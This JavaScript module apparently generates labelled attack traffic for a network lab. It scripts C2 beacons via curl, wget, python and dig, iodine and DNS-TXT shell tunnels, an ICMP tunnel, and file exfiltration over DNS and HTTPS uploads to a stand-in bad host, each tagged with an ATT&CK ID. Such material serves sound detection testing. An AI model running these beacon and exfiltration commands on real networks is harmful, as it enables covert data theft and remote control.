/** Tunnels, beacons and data that leaves; for what an attack has see probes.mjs. `says` is a name that is asked for in the flow. */
import { fileURLToPath } from 'node:url';
import { pause, perform, serve } from '../record/programs.mjs';
import { FOLDER } from '../site/network.mjs';
import { PYTHON, TUNNEL_ZONE } from '../site/servers.mjs';
import { chance } from '../site/work.mjs';

const CHANNEL = fileURLToPath(new URL('channel.py', import.meta.url));
const TCP = 6;
const UDP = 17;
const ICMP = 1;
const BEACONS = 45;
const EVERY_SECONDS = 2;

const toBad = (protocol, port) => (c) => [{ from: c.attacker, to: c.bad, protocol, port }];
const asked = (c) => [
  { from: c.attacker, to: c.ip('dns'), protocol: UDP, port: 53, says: TUNNEL_ZONE },
  // The resolver asks on.
  { from: c.ip('dns'), to: c.bad, protocol: UDP, port: 53, says: TUNNEL_ZONE, isEffect: true },
];
const far = (name, ...argv) => serve('internet', name, ...argv);
const bad = (c) => [c.bad];

/** Calls home again and again: every two seconds, more or less by the share of jitter. */
const beacon = (name, jitter, tool, lineOf, more = {}) => ({
  name,
  what: `calls home every ${EVERY_SECONDS} s, ${jitter * 100} % jitter`,
  tool,
  family: 'commandAndControl',
  technique: 'T1071.001',
  jitter,
  everySeconds: EVERY_SECONDS,
  run: async (c, host) => {
    const draw = chance(c.seed + 9);
    for (let i = 0, at = Date.now(); i < BEACONS; i++) {
      await perform(host, `timeout 5 ${lineOf(c, i)}`);
      at += EVERY_SECONDS * 1000 * (1 + jitter * (2 * draw() - 1));
      await pause(at - Date.now());
    }
  },
  victims: bad,
  flows: toBad(TCP, 443),
  ...more,
});

async function iodine(c, host) {
  const options = ['-f', '-c', '-l', c.bad, '-P', 'plover7', '10.99.0.1', TUNNEL_ZONE];
  const server = far('iodined', 'iodined', ...options);
  await pause(500);
  const client = serve(host, 'iodine', 'iodine', '-f', '-r', '-P', 'plover7', c.ip('dns'), TUNNEL_ZONE);
  await pause(6000);
  await perform(host, `timeout 25 curl -s -o /dev/null http://10.99.0.1/${c.n(80_000, 19_000)}`);
  await perform(host, `timeout 10 curl -s -o /dev/null -T ${FOLDER}/site/${c.n(34_000, 6000)} http://10.99.0.1/put/x`);
  client.kill();
  server.kill();
  await pause(500);
}

const dns = (kind) => async (c, host) => {
  const server = far('dns-end', PYTHON, CHANNEL, 'dns-serve', c.bad, TUNNEL_ZONE);
  await pause(400);
  await perform(host, `${PYTHON} ${CHANNEL} ${kind} ${c.ip('dns')} ${TUNNEL_ZONE} ${c.n(120, 50)} ${c.seed}`);
  server.kill();
};

async function icmp(c, host) {
  await perform('internet', 'sysctl -qw net.ipv4.icmp_echo_ignore_all=1');
  const server = far('icmp-end', PYTHON, CHANNEL, 'icmp-serve', c.bad);
  await pause(400);
  await perform(host, `${PYTHON} ${CHANNEL} icmp-talk ${c.bad} - ${c.n(200, 80)} ${c.seed}`);
  server.kill();
}

const exfiltration = { family: 'exfiltration', victims: bad };

export const CHANNELS = [
  beacon('beacon-0', 0, 'curl', (c) => `curl -sk -o /dev/null https://${c.bad}/300`),
  beacon('beacon-10', 0.1, 'wget', (c) => `wget -q -t 1 --no-check-certificate -O /dev/null https://${c.bad}/700`),
  beacon(
    'beacon-30',
    0.3,
    'python',
    (c) => `${PYTHON} -c "import urllib.request as u; u.urlopen('http://${c.bad}/700').read()"`,
    {
      flows: toBad(TCP, 80),
    },
  ),
  beacon('beacon-dns', 0.2, 'dig', (c, i) => `dig +tries=1 +time=1 TXT id${i * 37}.${TUNNEL_ZONE}`, {
    technique: 'T1071.004',
    flows: asked,
  }),
  {
    name: 'tunnel-dns-iodine',
    what: 'IP within DNS through the resolver: a page fetched and a file sent',
    tool: 'iodine',
    family: 'tunnel',
    technique: 'T1572',
    run: iodine,
    victims: bad,
    flows: asked,
  },
  {
    name: 'tunnel-dns-shell',
    what: 'a shell within TXT queries, as dnscat does it',
    tool: 'channel.py',
    family: 'tunnel',
    technique: 'T1071.004',
    run: dns('dns-shell'),
    victims: bad,
    flows: asked,
  },
  {
    name: 'tunnel-icmp',
    what: 'data within echoes and their answers',
    tool: 'channel.py',
    family: 'tunnel',
    technique: 'T1095',
    run: icmp,
    victims: bad,
    flows: toBad(ICMP, null),
  },
  {
    name: 'exfil-dns',
    what: 'a file in names that are asked for',
    tool: 'channel.py',
    technique: 'T1048.003',
    run: dns('dns-send'),
    flows: asked,
    ...exfiltration,
  },
  {
    name: 'exfil-https',
    what: 'files sent to a server outside over HTTPS',
    tool: 'curl',
    technique: 'T1048.002',
    run: async (c, host) => {
      for (let i = 0; i < c.n(5, 2); i++) {
        await perform(
          host,
          `curl -sk -o /dev/null --max-time 60 -T ${FOLDER}/site/${c.n(900_000, 250_000)} https://${c.bad}/put/${i}`,
        );
        await pause(1500);
      }
    },
    flows: toBad(TCP, 443),
    ...exfiltration,
  },
];
